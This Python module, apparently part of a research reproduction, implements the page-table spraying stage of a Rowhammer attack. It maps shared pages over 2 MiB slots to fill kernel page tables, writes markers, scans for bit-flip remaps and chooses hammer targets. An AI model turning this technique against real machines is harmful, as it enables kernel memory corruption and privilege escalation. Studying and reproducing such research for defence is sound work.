"""Page-table spraying (Section III-B, Figure 7).

The attacker maps a handful of shared user pages over an enormous
contiguous stretch of virtual space — 2 MiB *slots*, each fully
populated, so the kernel creates one **completely filled** Level-1 page
table per slot.  A few user frames thus conjure megabytes of kernel
L1PT pages whose every word is a PTE:

* any victim row between two hammered L1PT rows likely contains L1PTs,
* almost every bit flip in such a row perturbs a live PTE, and
* a frame-bit flip detectably remaps one sprayed virtual page (its
  marker disappears on the next scan).

Each slot cycles its backing pages through the shm object with a
per-slot offset, so any remap lands on a page whose marker differs from
the expected one with probability ``(shm_pages - 1) / shm_pages``.

Hammer targets use page index 8 of a slot: page-aligned (page offset 0)
with L1PTE line offset 1 — satisfying both Algorithm-2 aliasing
requirements (Section III-D).
"""

from repro.core.layout import SPRAY_REGION
from repro.params import PAGE_SIZE, PTES_PER_TABLE, SUPERPAGE_SIZE
from repro.utils.rng import hash64

#: Slot page index used as the hammer target (L1PTE line offset 1).
TARGET_PAGE_INDEX = 8


def marker_value(shm_page_index):
    """The recognisable fill word of one sprayed user page."""
    return hash64(0x5B4A7, shm_page_index) | 1  # never zero


class SprayMismatch:
    """One sprayed page whose content no longer matches its marker."""

    __slots__ = ("slot", "page", "vaddr", "value")

    def __init__(self, slot, page, vaddr, value):
        self.slot = slot
        self.page = page
        self.vaddr = vaddr
        self.value = value

    def __repr__(self):
        return "SprayMismatch(slot=%d, page=%d, va=0x%x, value=%s)" % (
            self.slot,
            self.page,
            self.vaddr,
            self.value,
        )


class PageTableSpray:
    """The sprayed region: mapping, marker writes, and integrity scans."""

    def __init__(self, attacker, slots, shm_pages=8, base=SPRAY_REGION):
        if shm_pages < 2:
            raise ValueError("need at least two shm pages for remap detection")
        self.attacker = attacker
        self.slots = slots
        self.shm_pages = shm_pages
        #: Pages populated per slot: the whole 2 MiB (a full L1PT).
        self.pages_per_slot = PTES_PER_TABLE
        self.base = base
        self.shm = None
        self.spray_cycles = 0
        self._markers = [marker_value(i) for i in range(shm_pages)]
        #: Resume cursor: slots already mapped.  ``execute`` is safe to
        #: call again after a recoverable fault — completed slots are
        #: skipped (re-mmapping a fixed address would fault) and the
        #: idempotent marker writes are redone only if unfinished.
        self._mapped_slots = 0
        self._markers_written = False

    def slot_base(self, slot):
        """Virtual base address of a slot's 2 MiB region."""
        return self.base + slot * SUPERPAGE_SIZE

    def page_va(self, slot, page):
        """Virtual address of page ``page`` (0..511) of a slot."""
        return self.slot_base(slot) + page * PAGE_SIZE

    def expected_marker(self, slot, page):
        """Marker that slot/page should read if its L1PTE is intact."""
        return self._markers[(slot + page) % self.shm_pages]

    def execute(self):
        """Map every slot fully and write the markers.

        Each slot costs the kernel one completely-populated L1PT page.
        Restartable: interrupted runs pick up at the first unmapped
        slot, and ``spray_cycles`` accumulates across attempts.
        """
        start = self.attacker.rdtsc()
        if self.shm is None:
            self.shm = self.attacker.create_shm(self.shm_pages)
        for slot in range(self._mapped_slots, self.slots):
            self.attacker.mmap(
                self.pages_per_slot,
                shm=self.shm,
                shm_offset=slot % self.shm_pages,
                at=self.slot_base(slot),
                populate=True,
            )
            self._mapped_slots = slot + 1
        if not self._markers_written:
            # Slot 0's first shm_pages pages cover every shm page once.
            for page in range(self.shm_pages):
                va = self.page_va(0, page)
                value = self.expected_marker(0, page)
                for word in range(0, PAGE_SIZE, 8):
                    self.attacker.write(va + word, value)
            self._markers_written = True
        self.spray_cycles += self.attacker.rdtsc() - start
        return self

    def scan(self, slot_range=None):
        """Compare every sprayed page's first word against its marker.

        The paper's bit-flip check (Table II "Check Time"): a bulk
        sweep over the whole sprayed region.  Returns the mismatching
        pages; unreadable pages (killed by an unlucky flip) are
        reported with ``value=None``.
        """
        slots = range(self.slots) if slot_range is None else list(slot_range)
        per_slot = self.pages_per_slot
        span = per_slot * PAGE_SIZE
        vas = []
        for slot in slots:
            base = self.slot_base(slot)
            vas.extend(range(base, base + span, PAGE_SIZE))
        values = self.attacker.read_bulk(vas)
        # Slot s expects markers[(s + page) % shm_pages]: a rotation of
        # one periodic sequence, so a clean slot is one list compare.
        shm_pages = self.shm_pages
        period = self._markers * (per_slot // shm_pages + 2)
        mismatches = []
        for position, slot in enumerate(slots):
            got = values[position * per_slot : (position + 1) * per_slot]
            rotation = slot % shm_pages
            expected = period[rotation : rotation + per_slot]
            if got == expected:
                continue
            base = self.slot_base(slot)
            for page, (value, marker) in enumerate(zip(got, expected)):
                if value != marker:
                    mismatches.append(
                        SprayMismatch(slot, page, base + page * PAGE_SIZE, value)
                    )
        return mismatches

    def target_va(self, slot):
        """The hammer-target address of a slot (page index 8).

        Page-aligned with page offset 0, and its L1PTE line offset is
        1 — satisfying both Algorithm-2 requirements.
        """
        return self.page_va(slot, TARGET_PAGE_INDEX)
